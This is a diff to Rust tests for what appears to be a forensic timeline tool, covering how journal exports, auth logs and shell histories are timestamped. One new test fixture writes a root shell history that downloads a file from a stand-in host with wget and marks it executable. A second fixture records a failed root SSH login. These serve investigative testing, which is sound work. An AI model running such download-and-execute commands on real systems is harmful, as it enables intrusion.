@@ -54,12 +54,10 @@ fn a_journal_tells_the_same_in_every_form() {
     assert_eq!(of("journal.json"), export);
     assert_eq!(of("compact.journal.gz"), export);
     assert_eq!(of("plain.journal.gz"), export);
-    // The longest message is compressed, which is said and costs nothing else.
-    let without: Vec<_> = of("compressed.journal.gz");
-    assert_eq!(without.len(), export.len() - 1);
-    assert!(without.iter().all(|row| export.contains(row)));
+    // The longest message is packed in this one.
+    assert_eq!(of("compressed.journal.gz"), export);
     let output = scratch.run(&["inventory", &scratch.path().join("compressed.journal").to_string_lossy()]);
-    assert!(stdout(&output).contains("1 compressed messages were not read"), "{}", stdout(&output));
+    assert!(!stdout(&output).contains("packed messages"), "{}", stdout(&output));
 }
 
 #[test]
@@ -155,6 +153,26 @@ fn last_logins_bear_the_users_number() {
 }
 
 #[test]
+fn what_has_no_time_bears_that_of_its_file() {
+    let scratch = Scratch::new();
+    let path = write(&scratch, "root/.bash_history", b"wget http://192.0.2.9/x\nchmod +x x\n");
+    let at = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_746_180_600);
+    std::fs::File::options().write(true).open(&path).unwrap().set_modified(at).unwrap();
+    write(
+        &scratch,
+        "var/log/auth.log",
+        b"2026-05-02T10:10:00+00:00 pbx sshd[1]: Failed password for root from 192.0.2.7 port 9 ssh2\n",
+    );
+    let rows = rows(&scratch, scratch.path());
+    let told: Vec<_> = rows
+        .iter()
+        .map(|row| (row["datetime"].as_str().unwrap(), row["timestamp_desc"].as_str().unwrap()))
+        .collect();
+    let by_file = ("2025-05-02T10:10:00.000000Z", "File Last Written, No Time in the Record");
+    assert_eq!(told, [by_file, by_file, ("2026-05-02T10:10:00.000000Z", "Event Time")]);
+}
+
+#[test]
 fn histories_keep_their_stamps() {
     let scratch = Scratch::new();
     scratch.file(
@@ -163,7 +181,10 @@ fn histories_keep_their_stamps() {
     );
     let rows = rows(&scratch, scratch.path());
     let times: Vec<_> = rows.iter().map(|row| row["datetime"].as_str().unwrap_or("").get(11..19)).collect();
-    assert_eq!(times, [None, Some("10:10:00"), Some("10:11:00"), Some("10:11:40")]);
+    assert_eq!(times, [Some("10:10:00"), Some("10:10:00"), Some("10:11:00"), Some("10:11:40")]);
+    let told: Vec<_> = rows.iter().map(|row| row["timestamp_desc"].as_str().unwrap_or("")).collect();
+    assert_eq!(told[0], "Time of the Record Beside It, Which Has None Itself");
+    assert_eq!(told[1..], ["Event Time"; 3]);
     assert!(rows.iter().all(|row| row["account"] == "root" && row["action"] == "command"));
 }
 
